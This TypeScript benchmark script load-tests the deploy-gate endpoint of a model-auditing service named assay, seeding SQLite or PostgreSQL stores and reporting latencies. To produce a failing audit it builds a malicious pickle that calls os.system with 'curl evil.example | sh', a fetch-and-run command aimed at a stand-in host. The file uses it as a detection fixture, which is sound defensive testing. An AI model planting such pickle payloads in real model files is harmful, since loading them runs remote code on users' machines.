/**
 * The deploy gate (`GET /api/gate?model=&digest=`) of `assay serve` under a bounded loopback load, for issue 9.
 *
 * For each store (SQLite, and PostgreSQL when a server is named) a child process seeds a fresh store with `--audits`
 * finished audits spread over `--models` models (real reports: one audit of examples/benign-model and one of the same
 * folder with a malicious pickle, recorded again with per-audit file hashes so every audit has its own digest; one in
 * five fails), then runs `startService` exactly as `assay serve --no-worker` does. This process drives it with
 * autocannon at each fixed rate for `--duration` seconds (latencies corrected for coordinated omission, autocannon's
 * default when a rate is set). The request mix: 70 % digests whose latest audit passed, 20 % that failed (the answer
 * then carries the report's gate reasons), 10 % digests never audited.
 *
 * Usage: npx tsx bench/gate.ts [--rates 100,500,1000,2000] [--duration 10] [--audits 1000] [--models 50]
 *        [--connections 32]
 * PostgreSQL: ASSAY_BENCH_DATABASE_URL (else ASSAY_TEST_DATABASE_URL); it works in a schema of its own, dropped after.
 * Writes bench/GATE.md.
 */
import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { cp, mkdtemp, writeFile } from 'node:fs/promises';
import { cpus, loadavg, tmpdir, totalmem } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import autocannon, { type Result } from 'autocannon';
import pg from 'pg';
import { auditPlan, NOT_ANALYSED_RULE_ID, VERSION } from '../src/assay.js';
import { audit } from '../src/core/audit.js';
import { DEFAULT_POLICY } from '../src/core/policy.js';
import type { Report } from '../src/core/report.js';
import { DEFAULT_LIMITS } from '../src/formats/analyse.js';
import { startService } from '../src/server/service.js';
import { modelDigest } from '../src/store/model-digest.js';
import { openStore, type StoreLocation } from '../src/store/open.js';
import type { Store } from '../src/store/store.js';
import { callPickle } from '../test/fixtures/pickle-writer.js';

const flag = (name: string, fallback: string) => {
  const at = process.argv.indexOf(`--${name}`);
  return at > 0 ? (process.argv[at + 1] as string) : fallback;
};
const RATES = flag('rates', '100,500,1000,2000').split(',').map(Number);
const DURATION = Number(flag('duration', '10'));
const AUDITS = Number(flag('audits', '1000'));
const MODELS = Number(flag('models', '50'));
const CONNECTIONS = Number(flag('connections', '32'));
const PROJECT_ROOT = join(import.meta.dirname, '..');
const tempFolder = () => mkdtemp(join(tmpdir(), 'assay-bench-gate-'));
const DATABASE_URL = process.env.ASSAY_BENCH_DATABASE_URL || process.env.ASSAY_TEST_DATABASE_URL;

/** What the server child tells the driver once it listens. */
interface Ready {
  url: string;
  token: string;
  passing: { model: string; digest: string }[];
  failing: { model: string; digest: string }[];
  seedSeconds: number;
  /** Mean ms per store call the gate route makes, called one at a time without HTTP. */
  storeCalls: Record<string, number>;
}

// ---- server child -------------------------------------------------------------------------------------------

async function serve(location: StoreLocation): Promise<void> {
  const started = performance.now();
  const store = await openStore(location);
  const [clean, malicious] = await sampleReports();
  const passing: Ready['passing'] = [];
  const failing: Ready['failing'] = [];
  for (let index = 0; index < AUDITS; index++) {
    const fails = index % 5 === 4;
    const base = fails ? malicious : clean;
    const files = base.files.map((file) => ({
      ...file,
      sha256: createHash('sha256').update(`${index}:${file.path}`).digest('hex'),
    }));
    const model = `bench/model-${String(index % MODELS).padStart(3, '0')}`;
    await store.recordAudit({ ...base, files }, { model, command: 'audit', actor: 'bench' });
    (fails ? failing : passing).push({ model, digest: modelDigest(files) });
  }
  const token = (await store.createApiToken('bench', ['read'])).token;
  const seedSeconds = (performance.now() - started) / 1000;
  const storeCalls = await timeStoreCalls(store, token, passing, failing);
  await store.close();

  const service = await startService({
    location,
    port: 0,
    host: '127.0.0.1',
    roots: [],
    allowHub: false,
    concurrency: 1,
    worker: false,
  });
  const ready: Ready = { url: service.url, token, passing, failing, seedSeconds, storeCalls };
  process.stdout.write(`${JSON.stringify(ready)}\n`);
  await new Promise((stop) => process.once('SIGTERM', stop));
  await service.stop();
  if (location.kind === 'postgres') await dropSchemas(location);
}

/** Where one gate answer spends its time in the store: each call the route makes, 300 times in a row. */
async function timeStoreCalls(
  store: Store,
  token: string,
  passing: Ready['passing'],
  failing: Ready['failing'],
): Promise<Ready['storeCalls']> {
  const mean = async (call: (index: number) => Promise<unknown>) => {
    const started = performance.now();
    for (let index = 0; index < 300; index++) await call(index);
    return (performance.now() - started) / 300;
  };
  const failed = await Promise.all(
    failing.slice(0, 300).map(async ({ model, digest }) => (await store.latestAuditForDigest(model, digest))?.id ?? ''),
  );
  return {
    'authenticate the token (writes last use)': await mean(() => store.authenticateApiToken(token)),
    'latest audit of a digest': await mean((index) => {
      const { model, digest } = passing[index % passing.length] as Ready['passing'][number];
      return store.latestAuditForDigest(model, digest);
    }),
    'load a failed audit for its reasons': await mean((index) =>
      store.getAudit(failed[index % failed.length] as string),
    ),
  };
}

/** One real passing report and one real failing report (the same folder plus a pickle that calls os.system). */
async function sampleReports(): Promise<[Report, Report]> {
  const folder = await tempFolder();
  const target = join(folder, 'model');
  await cp(join(PROJECT_ROOT, 'examples', 'benign-model'), target, { recursive: true });
  const run = () =>
    audit(target, {
      ...auditPlan('audit'),
      policy: DEFAULT_POLICY,
      limits: DEFAULT_LIMITS,
      notAnalysedRuleId: NOT_ANALYSED_RULE_ID,
      toolVersion: VERSION,
      displayTarget: 'bench/model',
    });
  const clean = await run();
  await writeFile(join(target, 'optimizer.pkl'), callPickle('posix', 'system', 'curl evil.example | sh'));
  const malicious = await run();
  if (clean.verdict !== 'pass' || malicious.verdict !== 'fail')
    throw new Error('sample reports have the wrong verdicts');
  return [clean, malicious];
}

async function dropSchemas(location: Extract<StoreLocation, { kind: 'postgres' }>): Promise<void> {
  const client = new pg.Client({ connectionString: location.url });
  await client.connect();
  for (const schema of [location.schema, `${location.schema}_jobs`])
    await client.query(`drop schema if exists "${schema}" cascade`);
  await client.end();
}

// ---- driver -----------------------------------------------------------------------------------------------------

interface Row {
  store: string;
  rate: number;
  result: Result;
  load: number;
}

interface Measured {
  rows: Row[];
  seedSeconds: number;
  /** p50 / p99 in ms of requests sent one after another (no concurrency): the cost of one answer. */
  sequential: { count: number; p50: number; p99: number };
  storeCalls: Ready['storeCalls'];
}

async function benchmark(name: string, location: StoreLocation): Promise<Measured> {
  // The same flags (--audits, --models), so the child seeds what this process reports.
  const args = [
    ...process.execArgv,
    import.meta.filename,
    ...process.argv.slice(2),
    '--serve',
    JSON.stringify(location),
  ];
  const child = spawn(process.execPath, args, { stdio: ['ignore', 'pipe', 'inherit'] });
  const exited = new Promise((done) => child.once('exit', done));
  const firstLine = await new Promise<string>((resolve, reject) => {
    createInterface({ input: child.stdout }).once('line', resolve);
    child.once('exit', (code) => reject(new Error(`the ${name} server exited with ${code} before listening`)));
  });
  const ready = JSON.parse(firstLine) as Ready;
  process.stderr.write(`${name}: ${AUDITS} audits over ${MODELS} models seeded in ${ready.seedSeconds.toFixed(1)} s\n`);
  try {
    await checkAnswers(ready);
    const paths = requestPaths(ready);
    const sequential = await oneAtATime(ready, paths);
    const rows: Row[] = [];
    for (const rate of RATES) {
      const load = loadavg()[0] as number;
      let next = 0;
      const result = await autocannon({
        url: ready.url,
        connections: CONNECTIONS,
        duration: DURATION,
        overallRate: rate,
        timeout: 10,
        headers: { authorization: `Bearer ${ready.token}` },
        requests: [
          {
            setupRequest: (request) => ({ ...request, method: 'GET', path: paths[next++ % paths.length] as string }),
          },
        ],
      });
      rows.push({ store: name, rate, result, load });
      process.stderr.write(
        `${name} @ ${rate}/s: p50 ${result.latency.p50} ms, p99 ${result.latency.p99} ms, ` +
          `${result.non2xx} non-2xx, ${result.errors} errors, ${result.timeouts} timeouts\n`,
      );
      await new Promise((pause) => setTimeout(pause, 1000));
    }
    return { rows, seedSeconds: ready.seedSeconds, sequential, storeCalls: ready.storeCalls };
  } finally {
    child.kill('SIGTERM');
    await exited;
  }
}

const gatePath = (model: string, digest: string) =>
  `/api/gate?model=${encodeURIComponent(model)}&digest=${encodeURIComponent(digest)}`;

/** 70 % passing digests, 20 % failing, 10 % never audited, in a fixed shuffled order. */
function requestPaths(ready: Ready): string[] {
  const paths: string[] = [];
  for (let index = 0; index < 10_000; index++) {
    const kind = index % 10;
    const spread = (index * 7919) >>> 0;
    if (kind < 7) {
      const pick = ready.passing[spread % ready.passing.length] as Ready['passing'][number];
      paths.push(gatePath(pick.model, pick.digest));
    } else if (kind < 9) {
      const pick = ready.failing[spread % ready.failing.length] as Ready['failing'][number];
      paths.push(gatePath(pick.model, pick.digest));
    } else paths.push(gatePath(`bench/model-${String(index % MODELS).padStart(3, '0')}`, `sha256:${randomHex()}`));
  }
  return paths;
}

/** The same request mix, one request at a time over one keep-alive connection. */
async function oneAtATime(ready: Ready, paths: readonly string[]): Promise<Measured['sequential']> {
  const count = 500;
  const times: number[] = [];
  for (let index = 0; index < count; index++) {
    const started = performance.now();
    const response = await fetch(`${ready.url}${paths[index % paths.length]}`, {
      headers: { authorization: `Bearer ${ready.token}` },
    });
    await response.arrayBuffer();
    times.push(performance.now() - started);
  }
  times.sort((a, b) => a - b);
  const at = (quantile: number) => times[Math.min(count - 1, Math.floor(quantile * count))] as number;
  return { count, p50: at(0.5), p99: at(0.99) };
}

const randomHex = () => randomBytes(32).toString('hex');

/** The load is only worth measuring if the answers are right. */
async function checkAnswers(ready: Ready): Promise<void> {
  const ask = async (model: string, digest: string) => {
    const response = await fetch(`${ready.url}${gatePath(model, digest)}`, {
      headers: { authorization: `Bearer ${ready.token}` },
    });
    return (await response.json()) as { allow: boolean };
  };
  const pass = ready.passing[0] as Ready['passing'][number];
  const fail = ready.failing[0] as Ready['failing'][number];
  if (!(await ask(pass.model, pass.digest)).allow) throw new Error('a passing digest was refused');
  if ((await ask(fail.model, fail.digest)).allow) throw new Error('a failing digest was allowed');
  if ((await ask(pass.model, `sha256:${randomHex()}`)).allow) throw new Error('an unknown digest was allowed');
}

function markdown(results: ({ name: string } & Measured)[], skipped: string[]): string {
  const ms = (value: number) => value.toFixed(value < 10 ? 2 : 1);
  const lines = [
    '# Deploy gate under load',
    '',
    `Generated by \`npx tsx bench/gate.ts\` on ${new Date().toISOString()} (see README.md, "Deploy gate").`,
    '',
    `Machine: ${cpus()[0]?.model ?? 'unknown CPU'}, ${cpus().length} cores, ${(totalmem() / 2 ** 30).toFixed(1)} GiB, ` +
      `Node ${process.version}. **Shared with other work while measured** (load average per run below): the server, ` +
      'autocannon and everything else running compete for the same cores, so these figures are an upper bound on ' +
      'latency, not the server alone.',
    '',
    `Store: ${AUDITS} finished audits over ${MODELS} models (1 in 5 failing), one read token. Load: autocannon, ` +
      `${CONNECTIONS} connections, ${DURATION} s per rate, fixed overall rate, latencies corrected for coordinated ` +
      'omission. Requests: 70 % passing digests, 20 % failing (answer includes the gate reasons), 10 % never audited.',
    '',
    '| store | target (req/s) | achieved (req/s) | requests | p50 (ms) | p90 (ms) | p99 (ms) | max (ms) | non-2xx | errors | timeouts | load avg |',
    '|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|',
  ];
  for (const { rows } of results)
    for (const { store, rate, result, load } of rows)
      lines.push(
        `| ${store} | ${rate} | ${(result.requests.total / result.duration).toFixed(0)} | ${result.requests.total} | ` +
          `${ms(result.latency.p50)} | ${ms(result.latency.p90)} | ${ms(result.latency.p99)} | ${ms(result.latency.max)} | ` +
          `${result.non2xx} | ${result.errors} | ${result.timeouts} | ${load.toFixed(2)} |`,
      );
  lines.push('');
  lines.push(
    'One request at a time (same mix, one keep-alive connection, before the load runs): the cost of one answer',
    'when nothing queues behind it.',
    '',
    '| store | requests | p50 (ms) | p99 (ms) | seeding the store |',
    '|---|---:|---:|---:|---:|',
  );
  for (const { name, seedSeconds, sequential } of results)
    lines.push(
      `| ${name} | ${sequential.count} | ${ms(sequential.p50)} | ${ms(sequential.p99)} | ${seedSeconds.toFixed(1)} s |`,
    );
  lines.push(
    '',
    'Store calls behind one answer, without HTTP (mean of 300 in a row, before the server starts):',
    '',
    `| store | ${Object.keys(results[0]?.storeCalls ?? {}).join(' (ms) | ')} (ms) |`,
    `|---|${Object.keys(results[0]?.storeCalls ?? {})
      .map(() => '---:')
      .join('|')}|`,
  );
  for (const { name, storeCalls } of results)
    lines.push(`| ${name} | ${Object.values(storeCalls).map(ms).join(' | ')} |`);
  lines.push('');
  for (const reason of skipped) lines.push(`Not measured: ${reason}.`);
  return `${lines.join('\n')}\n`;
}

async function main(): Promise<void> {
  const serveAt = process.argv.indexOf('--serve');
  if (serveAt > 0) return serve(JSON.parse(process.argv[serveAt + 1] as string) as StoreLocation);

  const results: ({ name: string } & Measured)[] = [];
  const skipped: string[] = [];
  const sqliteFolder = await tempFolder();
  results.push({
    name: 'SQLite',
    ...(await benchmark('SQLite', { kind: 'sqlite', path: join(sqliteFolder, 'assay.db') })),
  });
  if (DATABASE_URL) {
    const schema = `assay_bench_${randomBytes(4).toString('hex')}`;
    results.push({
      name: 'PostgreSQL',
      ...(await benchmark('PostgreSQL', { kind: 'postgres', url: DATABASE_URL, schema })),
    });
  } else skipped.push('PostgreSQL (set ASSAY_BENCH_DATABASE_URL)');
  const report = markdown(results, skipped);
  await writeFile(join(PROJECT_ROOT, 'bench', 'GATE.md'), report);
  process.stdout.write(report);
}

await main();
